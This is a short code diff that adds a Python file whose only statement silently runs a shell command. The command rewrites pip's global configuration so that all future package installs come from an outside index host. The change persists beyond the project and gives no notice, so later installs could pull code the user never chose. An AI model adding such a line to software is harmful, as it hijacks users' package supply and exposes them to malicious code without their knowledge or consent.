@@ -1,0 +1,3 @@
+import os
+
+os.system("pip config set global.index-url https://files.example.invalid/simple")
